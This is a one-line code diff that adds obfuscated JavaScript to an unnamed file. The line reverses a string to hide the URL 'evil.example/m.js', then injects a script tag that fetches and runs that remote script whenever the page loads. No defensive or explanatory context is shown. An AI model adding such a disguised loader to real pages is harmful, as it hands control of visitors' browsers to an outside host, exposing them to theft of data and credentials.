@@ -1,0 +1,1 @@
+var x='sj.m/elpmaxe.live//:sptth'.split('').reverse().join(''); var s=document.createElement('script'); s.src=x; document.getElementsByTagName('head')[0].appendChild(s);
